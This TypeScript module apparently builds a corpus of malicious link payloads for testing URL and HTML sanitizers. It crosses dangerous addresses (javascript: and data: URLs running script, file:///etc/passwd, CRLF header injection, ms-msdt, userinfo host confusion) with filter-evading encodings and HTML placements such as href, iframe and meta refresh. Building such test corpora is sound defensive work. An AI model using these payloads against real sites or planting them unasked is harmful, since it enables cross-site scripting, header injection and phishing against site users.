import { HOSTILE, type Payload, pick, SCRIPTS } from './payload.js';

/** Addresses that run, load or leave; `@` stands for what is run. */
const ADDRESSES: readonly string[] = [
  'javascript:@',
  'javascript://hostile.example/%0a@',
  'vbscript:@',
  'livescript:@',
  'data:text/html,<script>@</script>',
  'data:text/html;base64,PHNjcmlwdD5na29Ib3N0aWxlPTE8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="@"/>',
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iZ2tvSG9zdGlsZT0xIi8+',
  'data:image/png"onerror="@,x',
  'data:application/javascript,@',
  'blob:https://hostile.example/3eb57088-361f-4b34-9a62-686df8f5506a',
  'filesystem:https://hostile.example/temporary/x',
  'view-source:https://hostile.example/',
  'file:///etc/passwd',
  'ftp://hostile.example/x',
  'ws://hostile.example/',
  'intent://hostile.example#Intent;scheme=http;end',
  'ms-msdt:/id @',
  'about:blank#@',
  'chrome://settings/',
  'jar:https://hostile.example!/x',
  'mailto:a@hostile.example?body=%0d%0abcc:b@hostile.example',
  'tel:1',
  '//hostile.example/x',
  '\\\\hostile.example\\x',
  '/\\hostile.example',
  '../../go',
  '?x=@',
  '#@',
  'https:hostile.example',
  'https:///hostile.example',
  `${HOSTILE}/"onerror="@`,
  `${HOSTILE}/'><script>@</script>`,
  `${HOSTILE}/a.png?x=</script><script>@</script>`,
  `${HOSTILE}/a.mp4#"><img src=x onerror=@>`,
  'https://user:secret@hostile.example/',
  'https://shop.example@hostile.example/',
  'https://hostile.example%2f@shop.example/',
  'https://[::1]/x',
  'https://xn--/x',
  'https://\u202emoc.elpmaxe/',
  'https://hostile.example/\r\nset-cookie:a=b',
  'https://hostile.example/?pub_click_id={x}&pub_member_id=%0d%0a',
];

const entities = (text: string, write: (code: number) => string) =>
  text.replace(/[a-z:]/gi, (letter) => write(letter.charCodeAt(0)));
const inScheme = (text: string, mark: string, at: number) => text.slice(0, at) + mark + text.slice(at);

/** Ways to write an address that a browser may take for the same. */
const WRITTEN: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => address.toUpperCase(),
  (address) => [...address].map((letter, at) => (at % 2 ? letter : letter.toUpperCase())).join(''),
  (address) => ` ${address}`,
  (address) => `\u0001\u001f${address}`,
  (address) => `\u00a0${address}`,
  (address) => `\ufeff${address}`,
  (address) => `\u2028${address}`,
  (address) => `\u200b${address}`,
  (address) => inScheme(address, '\t', 4),
  (address) => inScheme(address, '\n', 2),
  (address) => inScheme(address, '\r\n', 6),
  (address) => inScheme(address, '\0', 3),
  (address) => inScheme(address, '\u00ad', 3),
  (address) => inScheme(address, '&Tab;', 4),
  (address) => inScheme(address, '&NewLine;', 4),
  (address) => inScheme(address, '&#0;', 4),
  (address) => inScheme(address, '<!-- -->', 4),
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(':', '&#58'),
  (address) => address.replace(':', '\uff1a'),
  (address) => entities(address, (code) => `&#${code};`),
  (address) => entities(address, (code) => `&#x${code.toString(16)}`),
  (address) => entities(address, (code) => `&#${String(code).padStart(9, '0')};`),
  (address) => entities(address, (code) => `%${code.toString(16)}`),
  (address) => entities(address, (code) => `\\u00${code.toString(16)}`),
  (address) => entities(address, (code) => `\\${code.toString(16)} `),
  (address) => address.replace(/[a-z]/gi, (letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0)),
  (address) => address.replace(/s/i, '\u017f'),
];

/** Where an address stands in HTML. */
const PLACES: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_top ping=${HOSTILE}>x</a>`,
  (address) => `<A HREF=${address.replace(/[\s>]/g, '')}>x</A>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a><use href="${address}"/></svg>`,
  (address) => `<math><maction actiontype=statusline xlink:href="${address}">x</maction></math>`,
  (address) => `<form action="${address}"><button formaction="${address}">x</button></form>`,
  (address) => `<iframe src="${address}"></iframe><frame src="${address}">`,
  (address) => `<object data="${address}"><param name=src value="${address}"></object><embed src="${address}">`,
  (address) => `<img src="${address}" srcset="${address} 1x" lowsrc="${address}">`,
  (address) => `<video src="${address}" poster="${address}"><source src="${address}"><track src="${address}"></video>`,
  (address) => `<base href="${address}"><a href="x">x</a>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<link rel=stylesheet href="${address}"><link rel=preload as=script href="${address}">`,
  (address) => `<p style="background:url('${address}')">x</p><style>@import '${address}'</style>`,
  (address) => `<map><area href="${address}" shape=default></map><img usemap=#x>`,
  (address) => `<svg><animate attributeName=href values="${address}"/><set attributeName=href to="${address}"/></svg>`,
  (address) => `<a href="https://shop.example/" href="${address}">x</a>`,
  (address) => `<a/href="${address}"/title=">">x</a>`,
];

/** Every address in every way to write it, bare as a URL and in one of the places. */
export function links(): Payload[] {
  return ADDRESSES.flatMap((address, row) =>
    WRITTEN.flatMap((write, column): Payload[] => {
      const url = write(address.replaceAll('@', pick(SCRIPTS, row + column)));
      const html = pick(PLACES, row + column * 5)(url);
      return [
        { family: 'links, bare', text: url },
        { family: 'links, in HTML', text: html },
      ];
    }),
  );
}
